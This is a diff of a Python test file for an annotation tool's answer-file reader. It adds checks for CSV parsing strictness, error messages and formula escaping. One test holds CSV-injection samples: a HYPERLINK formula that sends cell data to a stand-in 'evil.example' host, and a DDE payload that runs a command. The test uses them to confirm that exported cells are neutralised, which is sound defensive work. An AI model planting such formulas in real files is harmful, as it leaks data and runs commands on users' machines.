@@ -174,9 +174,9 @@ def test_label_studio_export_details(tmp_path: Path) -> None:
     ("bad.jsonl", '{"org": "gamma", "field": "x__c", "concept": "a.b"}\n',
      r"bad\.jsonl:1: malformed answer row \(object: Field required"),
     ("bad.csv", "org,object,field,label\ngamma,Account,x__c,X\n",
-     r"bad\.csv:1: missing column\(s\) \['concept'\]"),
+     r"bad\.csv row 1 \(line 1\): missing column\(s\) \['concept'\]"),
     ("bad.csv", "org,object,field,concept\ngamma,Account,x__c,a.b,extra\n",
-     r"bad\.csv:2: more cells than header"),
+     r"bad\.csv row 2 \(line 2\): more cells than header"),
     ("bad.json", '{"tasks": []}', r"bad\.json: expected a JSON list of tasks"),
     ("bad.json", "[{\"data\": {}, \"annotations\": [{\"result\": [\"x\"]}]}]",
      r"bad\.json task 1: malformed annotation result"),
@@ -267,8 +267,9 @@ def test_custom_without_a_group_names_the_row(tmp_path: Path) -> None:
     path = tmp_path / "answers.csv"
     path.write_text("org,object,field,concept\ngamma,Account,x__c,account.industry\n"
                     "gamma,Account,y__c,custom:\n", encoding="utf-8")
-    with pytest.raises(MappingError, match=r"answers\.csv:3: 'custom:' in the concept column "
-                                           r"names no group; write custom:<group>"):
+    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): 'custom:' in the "
+                                           r"concept column names no group; write "
+                                           r"custom:<group>"):
         read_answers(path)
 
 
@@ -282,3 +283,114 @@ def test_a_format_that_contradicts_the_extension_is_refused(
     # an extension that names no format takes the given one
     (path,) = write_tasks(answered(tasks), tmp_path / "answers.txt", format="jsonl")
     check_answers(path, format="jsonl")
+
+
+# ------------------------------------------------------------------ CSV safety and strictness
+def test_formula_like_cells_are_escaped_on_export_and_read_back(tmp_path: Path) -> None:
+    evil = PoolField(org="gamma", object="Account", field="evil__c",
+                     label='=HYPERLINK("http://evil.example/?x="&A1,"click")', kind="text",
+                     description="@SUM(1+1)*cmd|' /C calc'!A0",
+                     candidates=(("account.churn_date", 0.4),))
+    (task,) = make_tasks([evil], round=1)
+    path = tmp_path / "round.csv"
+    write_tasks([task.model_copy(update={"concept": "-", "annotator": "+ana",
+                                         "note": "-- unsure, ask 'sales'"})], path)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        (row,) = csv.DictReader(handle)
+    # a spreadsheet shows these as text instead of running them
+    assert row["label"] == "'" + evil.label
+    assert row["description"].startswith("'@SUM")
+    assert (row["concept"], row["annotator"], row["note"]) == (
+        "'-", "'+ana", "'-- unsure, ask 'sales'")
+    assert row["org"] == "gamma"  # other cells stay as they are
+    (answer,) = read_answers(path).answers
+    # '-' still means "no concept"; the guard quote is gone, the annotator's own quotes stay
+    assert (answer.concept, answer.annotator, answer.note) == (
+        None, "+ana", "-- unsure, ask 'sales'")
+
+
+def test_a_stray_quote_that_swallows_the_following_rows_is_refused(tmp_path: Path) -> None:
+    path = tmp_path / "answers.csv"
+    header = "org,object,field,concept,round,note\n"
+    # never closed: everything to the end of the file would be one note
+    path.write_text(header + 'gamma,Account,a__c,account.nps_score,1,"unsure about this\n'
+                    "gamma,Account,b__c,account.churn_date,1,\n", encoding="utf-8")
+    with pytest.raises(MappingError, match=r"answers\.csv row 2 \(line 2\): a quoted cell is "
+                                           r"never closed .*remove the quote or close it"):
+        read_answers(path)
+    # closed by chance at the end of a later row: valid CSV, but the rows went into the note
+    path.write_text(header + "gamma,Account,a__c,account.nps_score,1,ok\n"
+                    'gamma,Account,b__c,account.nps_score,1,"unsure about this\n'
+                    "gamma,Account,c__c,account.churn_date,1,\n"
+                    'gamma,Account,d__c,account.industry,1,"\n', encoding="utf-8")
+    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): the note cell runs "
+                                           r"over 2 more line\(s\) that look like rows"):
+        read_answers(path)
+    # a real multi-line note is fine
+    path.write_text(header + 'gamma,Account,a__c,account.nps_score,1,"first, second\nthird"\n',
+                    encoding="utf-8")
+    (answer,) = read_answers(path).answers
+    assert answer.note == "first, second\nthird"
+
+
+def test_csv_errors_name_the_row_instead_of_escaping(tmp_path: Path) -> None:
+    path = tmp_path / "answers.csv"
+    path.write_text("org,object,field,concept,round,note\n"
+                    "gamma,Account,a__c,account.nps_score,1,\n"
+                    f'gamma,Account,b__c,account.nps_score,1,"{"x" * 140_000}"\n',
+                    encoding="utf-8")
+    with pytest.raises(MappingError, match=r"answers\.csv row 3 \(line 3\): a cell is longer "
+                                           r"than \d+ characters.*shorten it"):
+        read_answers(path)
+    path.write_text('org,object,field,concept\ngamma,Account,"a__c"x,none\n', encoding="utf-8")
+    with pytest.raises(MappingError, match=r"row 2 \(line 2\): text after the closing"):
+        read_answers(path)
+
+
+def test_csv_messages_give_the_spreadsheet_row_and_the_line(tmp_path: Path) -> None:
+    path = tmp_path / "answers.csv"
+    path.write_text("org,object,field,description,concept\n"
+                    'gamma,Account,a__c,"line one\nline two\nline three",none\n'
+                    "\n"  # a blank row is a row of the sheet too
+                    "gamma,Account,b__c,,custom:\n", encoding="utf-8")
+    with pytest.raises(MappingError, match=r"answers\.csv row 4 \(line 6\): 'custom:'"):
+        read_answers(path)
+
+
+# ----------------------------------------------------------------------------- provenance
+@pytest.mark.parametrize("value", [True, -7, 2.5, "two"])
+def test_the_round_must_be_a_whole_number(tmp_path: Path, value: object) -> None:
+    path = tmp_path / "answers.jsonl"
+    path.write_text(json.dumps({"org": "gamma", "object": "Account", "field": "a__c",
+                                "concept": "none", "round": value}) + "\n")
+    with pytest.raises(MappingError, match=r"answers\.jsonl:1: malformed answer row \(round: "
+                                           r".*whole number >= 0"):
+        read_answers(path)
+
+
+def test_round_cells_of_a_csv_are_read_as_numbers(tmp_path: Path) -> None:
+    path = tmp_path / "answers.csv"
+    path.write_text("org,object,field,concept,round\ngamma,Account,a__c,none, 2 \n"
+                    "gamma,Account,b__c,none,-1\n", encoding="utf-8")
+    with pytest.raises(MappingError, match=r"row 3 \(line 3\): malformed answer row \(round"):
+        read_answers(path)
+    path.write_text("org,object,field,concept,round\ngamma,Account,a__c,none, 2 \n",
+                    encoding="utf-8")
+    assert [a.round for a in read_answers(path).answers] == [2]
+
+
+@pytest.mark.parametrize(("name", "content", "message"), [
+    ("a.jsonl", '{"org": "gamma", "object": "Account", "field": "a__c", "concept": "none"}\n'
+                '{"org": "gamma", "object": "Account", "field": "b__c", "Concept": "none"}\n',
+     r"a\.jsonl:2: the key 'Concept' is not read .*rename it 'concept'"),
+    ("a.csv", "org,object,field,concept,Note\ngamma,Account,a__c,none,x\n",
+     r"a\.csv row 1 \(line 1\): the column 'Note' is not read .*rename it 'note'"),
+    ("a.json", '[{"org": "gamma", "object": "Account", "field": "a__c", "GROUP": "g"}]',
+     r"a\.json task 1: the key 'GROUP' is not read .*rename it 'group'"),
+])
+def test_an_answer_key_in_the_wrong_case_is_refused(tmp_path: Path, name: str, content: str,
+                                                    message: str) -> None:
+    path = tmp_path / name
+    path.write_text(content, encoding="utf-8")
+    with pytest.raises(MappingError, match=message):
+        read_answers(path)
